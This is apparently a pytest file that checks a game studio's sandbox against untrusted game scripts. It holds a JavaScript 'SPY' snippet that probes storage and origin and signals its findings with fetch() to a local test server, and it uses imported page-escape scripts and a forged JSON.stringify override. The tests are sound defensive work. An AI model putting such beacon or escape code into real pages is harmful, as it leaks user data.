"""Untrusted scripts in the studio: trials of games, and Dagaz pages."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.conftest import ROOT
from tests.studio.kit import Studio
from tests.trust.page_attacks import escape_script
from tests.trust.test_models import MODEL, PAGE
from zrf2js.library import compile_file
from zrf2js.options import Options

#: a script that sends to a server what it finds in the storage of the studio
SPY = """
var found = function (name, use) {
  try { use(); globalThis.fetch(SERVER + name).catch(function () {}) } catch (error) {}
}
found('network', function () {})
found('storage', function () { globalThis.indexedDB.open('studio') })
found('origin', function () { if (globalThis.origin === 'null') throw new Error() })
"""


@contextmanager
def server() -> Iterator[tuple[str, list[str]]]:
    """Yield the address of a server that any site may use, and the paths of its requests."""
    paths: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            paths.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as running:
        threading.Thread(target=running.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{running.server_port}/", paths
        running.shutdown()


def open_files(studio: Studio, *files: Path) -> None:
    studio.forget_status()
    studio.page.locator("#chooser").set_input_files(files)


def test_the_script_of_a_game_reaches_neither_network_nor_projects(
    studio: Studio, tmp_path: Path
) -> None:
    """The studio plays each page once before it shows it."""
    rules, script = tmp_path / "line.zrf", tmp_path / "line.js"
    rules.write_bytes((ROOT / "zrf2js" / "host" / "starters" / "line.zrf").read_bytes())
    with server() as (address, paths):
        script.write_text(f"var SERVER = '{address}'\n{SPY}", encoding="utf-8")
        open_files(studio, rules, script)
        studio.wait_for_game()
        studio.page.wait_for_timeout(500)
    assert paths == []
    # Chromium reports what the policy refuses, so the script has run
    assert any("Content Security Policy" in message for message in studio.messages)
    studio.messages.clear()


def test_escapes_of_a_page_reach_nothing(studio: Studio, tmp_path: Path) -> None:
    """The scripts run in the workers that record and try the game, and in the page of the game."""
    page, model = tmp_path / "walk.htm", tmp_path / "walk.js"
    page.write_text(PAGE, encoding="utf-8")
    with server() as (address, paths):
        model.write_text(f"{escape_script(address)}\n{MODEL % ''}", encoding="utf-8")
        open_files(studio, page, model)
        studio.wait_for_game()
        expect(studio.game.get_by_role("heading", name="Walk")).to_be_visible()
        studio.page.wait_for_timeout(500)
        assert paths == []
        assert len(studio.page.context.pages) == 1
        assert studio.game.evaluate("typeof RTCPeerConnection") == "undefined"
    assert any("Content Security Policy" in message for message in studio.messages)
    studio.messages.clear()


def test_a_forged_design_is_a_problem(studio: Studio, tmp_path: Path) -> None:
    (tmp_path / "walk.htm").write_text(PAGE, encoding="utf-8")
    script = "JSON.stringify = function () { return '{\"dirs\":1}' }"
    (tmp_path / "walk.js").write_text(f"{script}\n{MODEL % ''}", encoding="utf-8")
    open_files(studio, tmp_path / "walk.htm", tmp_path / "walk.js")
    studio.open_panel("Problems")
    expect(studio.page.locator("#problems")).to_contain_text("invalid design", timeout=60_000)
    studio.open_panel("Play")


def test_a_page_of_dagaz_is_played(studio: Studio, tmp_path: Path) -> None:
    page, model = tmp_path / "walk.htm", tmp_path / "walk.js"
    page.write_text(PAGE, encoding="utf-8")
    model.write_text(MODEL % "", encoding="utf-8")
    open_files(studio, page, model)
    studio.wait_for_game()
    expect(studio.game.get_by_role("heading", name="Walk")).to_be_visible()
    assert studio.game.evaluate("window.zrfPage.session.moves.length") == 1
    exported = studio.export("Page for the browser", tmp_path)
    expected = compile_file(page, Options(target="html", name="walk")).value[0].text
    assert exported.read_text(encoding="utf-8") == expected


@pytest.mark.parametrize(
    ("script", "problem"),
    [
        pytest.param("while (true) {}", "within 20 s", marks=pytest.mark.sweep),
        ("var = 1", "Unexpected token"),
        ("Dagaz.Model.nothing()", "not a function"),
    ],
)
def test_faults_of_the_scripts_of_a_page_are_problems(
    script: str, problem: str, studio: Studio, tmp_path: Path
) -> None:
    (tmp_path / "walk.htm").write_text(PAGE, encoding="utf-8")
    (tmp_path / "walk.js").write_text(f"{MODEL % ''}\n{script}", encoding="utf-8")
    open_files(studio, tmp_path / "walk.htm", tmp_path / "walk.js")
    studio.open_panel("Problems")
    expect(studio.page.locator("#problems")).to_contain_text(problem, timeout=60_000)
    studio.open_panel("Play")
